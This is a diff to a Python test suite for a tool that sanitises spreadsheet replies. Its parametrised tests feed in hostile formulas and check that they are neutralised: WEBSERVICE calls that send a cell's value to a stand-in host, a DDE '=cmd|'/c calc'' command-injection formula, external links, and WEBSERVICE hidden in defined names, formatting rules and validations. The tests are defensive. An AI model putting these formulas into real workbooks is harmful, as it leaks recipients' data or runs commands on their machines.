@@ -3,18 +3,27 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
 from collections.abc import Callable
+from xml.sax.saxutils import escape
 
 import openpyxl
 import pytest
 import xlsxwriter
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.styles import PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
+from sources.programme.model import Programme
 from sources.readers import ReadResult
 from sources.replies.marking import marked_workbook
 from sources.replies.wording import COMMENT_HEAD, LOOKS, SHEET
+from sources.template.checks import SheetFormulas
+from sources.template.content import form_sheet
+from sources.template.formulas import is_plain
 from tests.unit.sources.replies.conftest import FACTS, FORM, PERIOD, UNIT, remark
 
 Write = Callable[..., bytes]
@@ -176,7 +185,7 @@ def test_an_untouched_reply_reads_like_the_original(
     assert first.fillna("").equals(again.fillna(""))
 
 
-def test_stored_results_of_formulas_stay() -> None:
+def test_formulas_leave_their_results() -> None:
     out = io.BytesIO()
     with xlsxwriter.Workbook(out) as book:
         sheet = book.add_worksheet("Biểu")
@@ -187,25 +196,128 @@ def test_stored_results_of_formulas_stay() -> None:
         sheet.write_array_formula("A5:A5", "{=SUM(A1:A1)}", value=2)
         sheet.write_formula("A6", '=IF(1,"","x")', value="")
     data = marked_workbook(out.getvalue(), FACTS, [remark("A1")])
-    formulas = openpyxl.load_workbook(io.BytesIO(data))["Biểu"]
-    results = openpyxl.load_workbook(io.BytesIO(data), data_only=True)["Biểu"]
-    assert [formulas[f"A{row}"].data_type for row in range(1, 7)] == ["f"] * 6
-    assert [results[f"A{row}"].value for row in range(1, 6)] == [
-        2,
-        "a<b>",
-        True,
-        "#DIV/0!",
-        2,
+    sheet = opened(data)["Biểu"]
+    assert [(c.value, c.data_type) for (c,) in sheet["A1:A5"]] == [
+        (2, "n"),
+        ("a<b>", "s"),
+        (True, "b"),
+        ("#DIV/0!", "e"),
+        (2, "n"),
     ]
-    assert openpyxl.load_workbook(io.BytesIO(data)).calculation.fullCalcOnLoad
+    assert sheet["A6"].value is None
 
 
-def test_a_formula_never_calculated_stays_so(workbook: Write, read_back: Read) -> None:
+def test_a_formula_never_calculated_leaves_nothing(
+    workbook: Write, read_back: Read
+) -> None:
     book = opened(workbook())
     book["Biểu"]["D13"].value = "=1+1"
     data = marked_workbook(saved(book), FACTS, [remark()])
-    found = read_back(data).observations.set_index("measure_code").fault
-    assert found["regular_police"] == "no_cached_value"
+    found = read_back(data).observations.set_index("measure_code").observation_status
+    assert found["regular_police"] == "missing"
+
+
+@pytest.mark.parametrize(
+    ("formula", "result"),
+    [
+        ('=WEBSERVICE("http://x.vn/?"&D12)', "answer"),
+        ('=_xlfn.WEBSERVICE("http://x.vn/?"&D12)', "answer"),
+        ("=cmd|'/c calc'!A0", 0),
+        ('=HYPERLINK("http://x.vn","=xem")', "=xem"),
+        ("='[other.xlsx]Sheet1'!A1", 7),
+        ("=[1]Sheet1!A1", 7),
+        ("=Tên_riêng", 7),
+        ("=INDIRECT(D12)", 7),
+        ("=SUM(D12:D13)", 9),
+    ],
+)
+@pytest.mark.parametrize("column", ["D", "E"])
+def test_what_can_act_comes_back_as_its_value(
+    workbook: Write, formula: str, result: object, column: str
+) -> None:
+    """In the sender's boxes, and in the very column of our checks."""
+    book = opened(workbook())
+    book["Biểu"][f"{column}14"].value = "=9+9"
+    sent = with_formula(saved(book), f"{column}14", formula, result)
+    back = marked_workbook(sent, FACTS, [remark()])
+    cell = opened(back)["Biểu"][f"{column}14"]
+    if (column, formula) == ("E", "=SUM(D12:D13)"):
+        assert cell.value == formula  # as harmless as what stood there
+        return
+    assert cell.value == result
+    assert cell.data_type == ("s" if isinstance(result, str) else "n")
+    assert cell.quotePrefix is (result == "=xem")
+    with zipfile.ZipFile(io.BytesIO(back)) as package:
+        for part in map(package.read, package.namelist()):
+            assert b"x.vn" not in part and b"calc'" not in part
+
+
+def with_formula(data: bytes, cell: str, formula: str, result: object) -> bytes:
+    """The workbook with the formula of one cell, and its stored result, exchanged."""
+    out = io.BytesIO()
+    kind = ' t="str"' if isinstance(result, str) else ""
+    new = f"<f>{escape(formula[1:])}</f><v>{result}</v></c>"
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as package,
+        zipfile.ZipFile(out, "w") as changed,
+    ):
+        for name in package.namelist():
+            part = package.read(name)
+            if name == "xl/worksheets/sheet1.xml":
+                text, count = re.subn(
+                    rf'<c r="{cell}"([^>]*)><f>9\+9</f><v ?/></c>',
+                    lambda found: f'<c r="{cell}"{found[1]}{kind}>{new}',
+                    part.decode(),
+                )
+                assert count == 1
+                part = text.encode()
+            changed.writestr(name, part)
+    return out.getvalue()
+
+
+def test_the_checks_of_the_template_stay_alive(workbook: Write) -> None:
+    sent = workbook()
+    before, after = opened(sent), opened(marked_workbook(sent, FACTS, [remark()]))
+    formulas = [
+        cell.coordinate
+        for row in before["Biểu"]
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert len(formulas) > 8
+    assert {after["Biểu"][place].value for place in formulas} == {
+        before["Biểu"][place].value for place in formulas
+    }
+    rules = [len(list(book["Biểu"].conditional_formatting)) for book in (before, after)]
+    assert rules[0] == rules[1] > 0
+    assert after.calculation.fullCalcOnLoad
+
+
+def test_every_formula_that_we_write_is_plain(programme: Programme) -> None:
+    for form in programme.forms:
+        sheet = form_sheet(programme, form)
+        made = SheetFormulas(sheet)
+        rows = [row for row in sheet.rows if row is not None]
+        every = [made.nil(), made.summary(), *map(made.figure, rows)]
+        every += map(made.check, rows)
+        assert [formula for formula in every if not is_plain(formula)] == []
+
+
+def test_links_names_and_rules_that_lead_out_go(workbook: Write) -> None:
+    book = opened(workbook())
+    form = book["Biểu"]
+    form["J3"].value, form["J3"].hyperlink = "xem", "http://x.vn"
+    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://x.vn")')
+    form.conditional_formatting.add(
+        "J4", FormulaRule(formula=['WEBSERVICE("http://x.vn")="1"'])
+    )
+    form.add_data_validation(
+        DataValidation("custom", 'WEBSERVICE("http://x.vn")="1"', sqref="J5")
+    )
+    back = marked_workbook(saved(book), FACTS, [remark()])
+    with zipfile.ZipFile(io.BytesIO(back)) as package:
+        assert not any(b"x.vn" in package.read(name) for name in package.namelist())
+    assert opened(back)["Biểu"]["J3"].value == "xem"
 
 
 def test_nothing_in_a_reply_leads_out_of_it(workbook: Write) -> None:
